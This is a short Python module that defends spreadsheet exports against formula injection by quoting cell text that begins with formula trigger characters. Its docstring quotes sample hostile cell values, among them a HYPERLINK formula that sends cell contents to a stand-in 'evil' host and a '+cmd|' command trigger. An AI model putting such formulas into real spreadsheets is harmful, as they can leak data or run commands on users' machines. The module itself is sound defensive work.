"""Spreadsheet safety: text a spreadsheet would run as a formula is written as plain text.

A hostname, a software name or a certificate subject comes from an agent and may be hostile
(``=HYPERLINK("http://evil/?"&A1)``, ``@SUM(...)``, ``+cmd|...``). Every CSV and XLSX export routes its
cells through ``safe_cell``: text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
gets a leading single quote, which Excel and LibreOffice show as text. XLSX writers also store such
cells as strings, never as formulas.
"""

from __future__ import annotations

from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` unchanged, except text a spreadsheet would evaluate: that gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value
